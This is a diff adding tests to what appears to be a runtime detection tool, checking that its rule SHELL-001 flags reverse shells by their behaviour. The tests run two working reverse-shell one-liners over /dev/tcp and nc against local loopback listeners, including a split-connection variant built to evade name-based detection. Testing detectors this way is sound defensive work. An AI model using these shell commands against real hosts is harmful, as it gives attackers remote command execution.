@@ -109,3 +109,120 @@ describe.runIf(tier.run)("kernel: another name for the shell (evasions of name l
     }, 20_000);
   }
 });
+
+/**
+ * A shell is what it does (issue 26): shapes no name list sees, caught by SHELL-001's
+ * behavioural evidence (input from a connection this host made, output back to it, programs
+ * started as commands arrive). Each with exactly one finding across every default rule.
+ */
+describe.runIf(tier.run)("kernel: a shell is what it does (behavioural evidence)", () => {
+  let session: Session;
+  const findings: IdentifiedFinding[] = [];
+  const top = mkdtempSync(join(tmpdir(), "sockeye-behave-"));
+
+  beforeAll(async () => {
+    session = await Session.open();
+    const table = new ProcessTable({ host: new ProcHostView() });
+    table.seedFromProc();
+    const engine = new Engine({ rules: builtinRules(), processes: table });
+    session.sensor.subscribe((events) => {
+      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as IdentifiedFinding);
+    });
+  });
+  afterAll(() => {
+    session?.close();
+    rmSync(top, { recursive: true, force: true });
+  });
+
+  /** Two commands whose answers the listener waits for: `id`, then `uname -s`. */
+  const TWO_COMMANDS: [string, string][] = [["id", "uid="], ["uname -s", "Linux"]];
+  const onPort = (port: number) => findings.filter((f) => f.destination?.port === port);
+
+  it("the read loop fed through a pipe: exec 5<>/dev/tcp/H/P; cat <&5 | while read line; do $line 2>&5 >&5; done", async () => {
+    const listener = await commandingListener("127.0.0.1", { commands: TWO_COMMANDS });
+    try {
+      const r = await run("timeout", ["-s", "KILL", "15", "bash", "-c",
+        `exec 5<>/dev/tcp/127.0.0.1/${listener.port}; cat <&5 | while read line; do $line 2>&5 >&5; done`]);
+      expect(await listener.answered, `no answer from the loop: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = onPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+      expect(found[0]!.sockeye.verdict.identified_by).toBe("behaviour");
+    } finally {
+      await listener.close();
+    }
+  }, 30_000);
+
+  it("the split shell: nc H P1 | bash -i >& /dev/tcp/H/P2 (input from one connection, output on another)", async () => {
+    const split = await splitListeners(TWO_COMMANDS);
+    try {
+      const r = await run("timeout", ["-s", "KILL", "15", "bash", "-c",
+        `nc 127.0.0.1 ${split.inputPort} | bash -i >& /dev/tcp/127.0.0.1/${split.outputPort}`]);
+      expect(await split.answered, `no answer on the output connection: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = findings.filter((f) => [split.inputPort, split.outputPort].includes(f.destination?.port ?? -1));
+      expect(found.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+      // bash reads its commands from stdin: named at its exec, before any command ran.
+      expect(found[0]!.sockeye.verdict.identified_by).toBe("name");
+    } finally {
+      await split.close();
+    }
+  }, 30_000);
+});
+
+/**
+ * Two loopback listeners for a shell split over two connections: the first sends the commands
+ * (one after another, each once the previous answer came back on the second), the second
+ * collects the output. Both end once every answer came (`exit` on the input first).
+ */
+async function splitListeners(commands: [string, string][]): Promise<{ inputPort: number; outputPort: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const sockets = new Set<import("node:net").Socket>();
+  let input: import("node:net").Socket | undefined;
+  let got = "";
+  let next = 0;
+  let resolveAnswered!: (ok: boolean) => void;
+  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
+  const netMod = await import("node:net");
+  const maybeSend = () => {
+    if (input === undefined || next >= commands.length) return;
+    if (next === 0 || got.includes(commands[next - 1]![1])) {
+      input.write(`${commands[next]![0]}\n`);
+      next++;
+    }
+  };
+  const check = () => {
+    maybeSend();
+    if (next === commands.length && got.includes(commands[commands.length - 1]![1])) {
+      resolveAnswered(true);
+      setTimeout(() => input?.end("exit\n"), 1500);
+    }
+  };
+  let outputConnected = false;
+  // Half-open allowed: nc half-closes its side when its own stdin ends, and keeps reading.
+  const inServer = netMod.createServer({ allowHalfOpen: true }, (s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    input = s;
+    // The first command waits for the output connection: the shell opens it as it starts.
+    if (outputConnected) maybeSend();
+    s.on("close", () => resolveAnswered(false));
+  });
+  const outServer = netMod.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    outputConnected = true;
+    s.on("data", (d: Buffer) => {
+      got += d.toString();
+      check();
+    });
+    maybeSend();
+  });
+  await new Promise<void>((resolve) => inServer.listen(0, "127.0.0.1", resolve));
+  await new Promise<void>((resolve) => outServer.listen(0, "127.0.0.1", resolve));
+  return {
+    inputPort: (inServer.address() as import("node:net").AddressInfo).port,
+    outputPort: (outServer.address() as import("node:net").AddressInfo).port,
+    answered,
+    close: () => Promise.all([inServer, outServer].map((srv) => new Promise<void>((resolve) => { for (const s of sockets) s.destroy(); srv.close(() => resolve()); }))).then(() => undefined),
+  };
+}
